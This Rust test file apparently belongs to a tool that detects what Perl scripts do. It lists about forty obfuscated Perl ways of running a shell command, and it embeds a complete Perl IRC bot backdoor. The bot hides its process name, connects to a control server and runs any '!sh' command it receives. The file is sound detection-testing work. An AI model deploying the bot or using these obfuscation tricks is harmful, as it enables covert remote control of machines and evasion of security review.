//! Code that hides what it does.

use super::does;

#[test]
fn what_is_run_is_found() {
    for script in [
        "my $c = 'i'.'d'; system($c);",
        "system(join '', reverse split //, 'di');",
        "system(scalar reverse 'di');",
        "system(join '', map { chr } (105, 100));",
        "system(pack('H*', '6964'));",
        "system(pack 'C*', 105, 100);",
        "use MIME::Base64; system(decode_base64('aWQ='));",
        "use MIME::Base64; eval decode_base64('c3lzdGVtKCdpZCcp');",
        "eval unpack u => q{,<WES=&5M*\"=I9\"<I};",
        "$_ = 'vq'; tr/a-z/n-za-m/; system;",
        "(my $x = 'ixxd') =~ s/x//g; system $x;",
        "my $x = '6964'; $x =~ s/(..)/chr(hex($1))/ge; system($x);",
        "my $x = '%69%64'; $x =~ s/%([0-9a-f]{2})/pack('C', hex $1)/gie; system $x;",
        "eval \"\\x73\\x79\\x73\\x74\\x65\\x6d('id')\";",
        "my @a = ('d', 'i'); system($a[1] . $a[0]);",
        "my $f = 'system'; &$f('id');",
        "my $f = \\&run; $f->('id'); sub run { system @_ }",
        "*x = sub { system $_[0] }; x('id');",
        "no strict 'refs'; my $n = 'go'; &{$n}('id'); sub go { my $c = shift; system $c; }",
        "my $k = 'k'; my $s = \"\\x02\\x0f\" ^ ($k x 2); system $s;",
        "my %h = map { $_ => chr(ord($_) + 1) } ('h', 'c'); system($h{h} . $h{c});",
        "my $s = ''; for (my $i = 0; $i < 2; $i++) { $s .= substr('idx', $i, 1); } system($s);",
        "my $s = sprintf('%c%c', 105, 100); system($s);",
        "my $s = lc uc 'ID'; system($s);",
        "my ($a, $b) = split /,/, 'i,d'; system(\"$a$b\");",
        "my $s = \"@{[ 'id' ]}\"; system($s);",
        "my $r = { c => [ 'x', 'id' ] }; system($r->{c}[1]);",
        "eval { system('id'); }; print $@ if $@;",
        "my $c = do { 'id' }; system $c;",
        "system(<DATA>);\n__DATA__\nid\n",
        "eval join '', <DATA>;\n__END__\nsystem('id');\n",
        "s//system('id')/e;",
        "$_ = q{system 'id'}; s/(.*)/$1/ee;",
        "use constant CMD => 'id'; system(CMD);",
        "my $x = <<\"A\" . <<'B'; system($x);\ni\nA\nd\nB\n",
        "open(F, '>/tmp/a.pl'); print F 'system(\"id\");'; close F; do '/tmp/a.pl';",
        "system('perl', '-e', 'system(\"id\")');",
        "local $_ = 'id'; system $_ unless 0;",
        "my @s = map { $_ - 1 } (106, 101); system(join('', map(chr($_), @s)));",
        "print STDOUT 'x' and exit if 0; sub a { b(@_) } sub b { system $_[0] } a('id');",
    ] {
        let all = super::acts(script);
        // The lines of a here-document end in line ends.
        let runs = all.iter().any(|act| {
            act.trim_end() == "evaluate shell: id" || act.starts_with("evaluate shell: i\n")
        });
        assert!(runs, "{all:#?} of {script}");
    }
}

#[test]
fn orders_of_a_channel_are_run() {
    let bot = r#"#!/usr/bin/perl
use IO::Socket;
my $server = '192.0.2.1'; my $port = 6667; my $nick = 'x' . int(rand(999));
exit if fork;
$0 = '[kworker/0:1]';
sub shell { my ($to, $cmd) = @_; my @out = `$cmd 2>&1`; foreach my $l (@out) { send_line("PRIVMSG $to :$l"); } }
sub send_line { print $sock "$_[0]\n"; }
our $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Proto => 'tcp') or die;
send_line("NICK $nick");
while (my $line = <$sock>) {
    if ($line =~ /^PING (.*)/) { send_line("PONG $1"); next; }
    if ($line =~ /^:(\S+)!.* PRIVMSG (\S+) :!sh (.*)/) { my ($who, $to, $cmd) = ($1, $2, $3); shell($to, $cmd); }
}
"#;
    assert!(does(bot, "connect 192.0.2.1:6667"));
    assert!(does(bot, "evaluate shell: {received}"));
}
